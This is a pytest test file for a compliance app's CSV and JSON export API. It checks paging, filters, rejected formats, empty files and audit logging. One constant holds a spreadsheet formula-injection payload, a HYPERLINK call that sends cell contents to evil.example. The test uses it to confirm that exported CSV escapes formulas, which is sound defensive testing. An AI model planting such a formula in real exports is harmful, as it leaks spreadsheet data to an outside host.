"""``GET export/<resource>.csv|json``."""

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from rest_framework.test import APIClient

from accounts.models import User
from alerts.models import Alert
from audit.models import AuditEntry
from compliance.models import Evaluation
from core import exports
from overrides.services.asking import request_override
from tenants.models import Tenant
from tests.api.reading import VIOLATIONS, finding, findings

Judge = Callable[..., Evaluation]
Report = Callable[..., Any]
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
EXPORT = "/api/compliance/export/"


@pytest.fixture
def client(acme: Tenant, viewer: User, client_for: Callable[..., APIClient]) -> APIClient:
    """A viewer's program."""
    return client_for(acme, user=viewer)


def taken(client: APIClient, address: str) -> str:
    """A file's text."""
    response: Any = client.get(EXPORT + address)
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode()


def csv_rows(text: str) -> list[dict[str, str]]:
    """The rows of a CSV file."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_json_says_what_the_list_says_page_after_page(
    client: APIClient, judge: Judge, report: Report, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("dashboard.queries.rows.PAGE_ROWS", 2)
    judge(report(deny=findings(5)))
    assert json.loads(taken(client, "violations.json")) == client.get(VIOLATIONS).json()["results"]


def test_csv_has_the_apis_columns_and_no_formulas(client: APIClient, judge: Judge, report: Report) -> None:
    judge(report(deny=[finding(message=FORMULA, owner="kim")]))
    [listed] = client.get(VIOLATIONS).json()["results"]
    [row] = csv_rows(taken(client, "violations.csv"))
    assert list(row) == list(listed)
    assert (row["message"], row["pr_number"], row["resolved_at"]) == (f"'{FORMULA}", "1", "")
    assert json.loads(row["context"]) == listed["context"]


def test_the_lists_filters_hold_in_the_file(client: APIClient, judge: Judge, report: Report) -> None:
    judge(report(deny=[finding("R01")], warn=[finding("R02")]))
    judge(report(pr_number=2, deny=[finding("R01")]))
    assert [row["rule"] for row in csv_rows(taken(client, "violations.csv?pr=1&severity=WARNING"))] == ["R02"]
    ids = [row["id"] for row in csv_rows(taken(client, "violations.csv?ordering=first_seen"))]
    assert ids == sorted(ids)


@pytest.mark.parametrize(
    ("address", "status"),
    [("violations.csv?rul=R01", 422), ("violations.csv?cursor=x", 422), ("violations.xml", 404), ("users.csv", 404)],
)
def test_what_is_no_export_is_refused(address: str, status: int, client: APIClient) -> None:
    response = client.get(EXPORT + address, headers={"accept": "text/csv"})
    assert (response.status_code, response["Content-Type"]) == (status, "application/problem+json")


@pytest.mark.parametrize("number", [1, 3])
def test_everything_that_is_listed_can_be_taken_along(
    number: int, client: APIClient, viewer: User, judge: Judge, report: Report
) -> None:
    for pull in range(1, number + 1):
        evaluation = judge(report(pr_number=pull, deny=[finding()]))
        keys = list(evaluation.pull_request.violations.values_list("pk", flat=True))
        request_override(violations=keys, reason="The vendor mends it.", by=viewer, at=evaluation.created_at)
    rows = {
        name: json.loads(taken(client, f"{name}.json"))
        for name in ("pr", "overrides", "alerts", "evaluations", "rules")
    }
    assert [len(rows[name]) for name in ("pr", "overrides", "evaluations")] == [number] * 3
    assert len(rows["alerts"]) == Alert.objects.count() > 0
    assert (len(rows["rules"]), rows["rules"][0]["id"]) == (25, "R01")
    for name, found in rows.items():
        [header, *lines] = csv.reader(io.StringIO(taken(client, f"{name}.csv"), newline=""))
        assert (set(header), len(lines)) == (set(found[0]), len(found))


def test_an_export_of_nothing_is_a_file_all_the_same(client: APIClient, acme: Tenant) -> None:
    assert json.loads(taken(client, "violations.json")) == []
    assert taken(client, "violations.csv").startswith("id,rule,severity,")


def test_taking_along_is_recorded_with_what_was_filtered(client: APIClient, viewer: User) -> None:
    taken(client, "violations.csv?rule=R01&status=OPEN&status=OVERRIDDEN")
    entry = AuditEntry.objects.get(action="violations.exported")
    assert (entry.actor, entry.after) == (
        viewer.username,
        {"format": "csv", "filters": {"rule": ["R01"], "status": ["OPEN", "OVERRIDDEN"]}},
    )


def test_rows_are_read_a_page_at_a_time() -> None:
    read = []

    def pages() -> Any:
        for number in range(3):
            read.append(number)
            yield [{"n": number}]

    chunks = exports.csv_chunks(["n"], pages())
    assert (next(chunks), read) == (b"n\r\n0\r\n", [0])
